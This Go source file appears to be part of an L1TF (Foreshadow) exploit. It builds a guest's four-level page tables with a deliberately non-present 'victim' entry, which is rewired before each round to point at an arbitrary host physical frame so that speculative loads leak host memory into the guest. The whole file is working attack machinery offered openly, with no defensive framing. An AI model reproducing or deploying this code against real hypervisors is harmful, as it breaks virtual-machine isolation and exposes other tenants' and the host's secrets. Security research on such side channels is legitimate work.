// Package pagetable builds the guest's 4-level paging hierarchy: a 1 GiB
// identity map of guest-physical 0 plus one rewritable leaf (the victim
// entry) that points guest-virtual memory at an arbitrary host physical
// frame for the L1TF read.
package pagetable

import (
	"encoding/binary"
	"errors"
	"fmt"

	"github.com/nmi/l1tf/handle"
)

const (
	PageSize = 4096

	// One page per level: PML4, PDPT, PD, PT.
	numPages = 4
)

// Page table entry bits.
const (
	ptePresent  = 1 << 0
	pteWritable = 1 << 1
	pteAccessed = 1 << 5
	pteDirty    = 1 << 6
	ptePageSize = 1 << 7

	// chainAttr dresses the live entries: present, writable, accessed,
	// dirty, so the guest never takes an A/D write to the tables.
	chainAttr = ptePresent | pteWritable | pteAccessed | pteDirty

	// victimAttr deliberately leaves the present bit clear. The physical
	// frame stored in a non-present PTE is exactly what an L1TF load
	// speculatively forwards from.
	victimAttr = pteAccessed | pteDirty

	// VictimBit is the guest-virtual bit that routes a translation through
	// the victim chain: PDPT slot 1, i.e. the second GiB.
	VictimBit = 1 << 30
)

var ErrUnalignedGPA = errors.New("page table gpa not page aligned")

// Tables is the paging hierarchy, held in one page-aligned host arena that
// is registered with the VM as a single guest-physical region.
type Tables struct {
	gpa   uint64
	arena *handle.Mapping
}

// New allocates and wires the hierarchy at the given guest-physical base.
// The victim leaf starts empty; SetVictimPA arms it before every round.
func New(gpa uint64) (*Tables, error) {
	if gpa%PageSize != 0 {
		return nil, fmt.Errorf("%w: %#x", ErrUnalignedGPA, gpa)
	}

	arena, err := handle.Anonymous(numPages*PageSize, "page tables")
	if err != nil {
		return nil, err
	}

	t := &Tables{gpa: gpa, arena: arena}

	// Identity-map the low GiB as a single large page.
	t.set(0, 0, (gpa+PageSize)|chainAttr)   // PML4[0] -> PDPT
	t.set(1, 0, 0|chainAttr|ptePageSize)    // PDPT[0]: 1 GiB page at 0
	t.set(1, 1, (gpa+2*PageSize)|chainAttr) // PDPT[1] -> PD
	t.set(2, 0, (gpa+3*PageSize)|chainAttr) // PD[0]   -> PT
	t.set(3, 0, 0)                          // PT[0]: the victim leaf

	return t, nil
}

func (t *Tables) set(page, index int, entry uint64) {
	binary.LittleEndian.PutUint64(t.arena.Bytes()[page*PageSize+index*8:], entry)
}

// SetVictimPA points the victim leaf at the host physical frame containing
// pa. Called between rounds only, never while the vCPU runs.
func (t *Tables) SetVictimPA(pa uint64) {
	t.set(3, 0, pa&^uint64(PageSize-1)|victimAttr)
}

// VictimEntry returns the current victim leaf encoding.
func (t *Tables) VictimEntry() uint64 {
	return binary.LittleEndian.Uint64(t.arena.Bytes()[3*PageSize:])
}

// VictimGVA returns the guest-virtual address that dereferences pa through
// the victim translation: the same offset within the page, routed through
// the rigged GiB slot.
func (t *Tables) VictimGVA(pa uint64) uint64 {
	return pa&(PageSize-1) | VictimBit
}

// GPA returns the guest-physical base of the hierarchy. Once the vCPU is in
// long mode this is also its CR3 value.
func (t *Tables) GPA() uint64 {
	return t.gpa
}

// Bytes returns the backing arena, for region registration.
func (t *Tables) Bytes() []byte {
	return t.arena.Bytes()
}

// Close frees the arena. Session teardown only.
func (t *Tables) Close() {
	t.arena.Close()
}
